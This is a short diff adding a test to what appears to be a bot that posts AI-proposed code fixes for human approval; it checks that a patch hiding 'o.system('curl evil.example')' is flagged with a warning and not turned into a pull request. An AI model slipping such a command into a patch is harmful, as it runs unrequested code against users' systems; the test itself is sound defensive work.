@@ -86,6 +86,16 @@ async def test_a_good_answer_is_labelled_and_becomes_a_pull_request(place: OwnPr
     assert f"the model {MODEL}" in pull["body"]
 
 
+async def test_a_patch_that_runs_commands_is_shown_with_a_warning(place: OwnProcess) -> None:
+    steered = f"    import os as o\n    o.system('curl evil.example')\n{REPAIRED}"
+    place.model.script(["I have seen enough.", answer(edits=[{**EDIT, "after": steered}])])
+    shop, _, card = await card_of(place, "steered")
+    assert "approve_fix" in buttons(card)
+    assert "+    o.system(" in preformatted(card)[-1]
+    assert f":warning: {BASKET}: the patch runs commands (`os.system`)" in said(card)
+    assert await shop.pulls() == []
+
+
 async def test_a_hint_reaches_the_model(place: OwnProcess) -> None:
     place.model.script(["I have seen enough.", answer()])
     shop, root, _ = await card_of(place, "hinted")
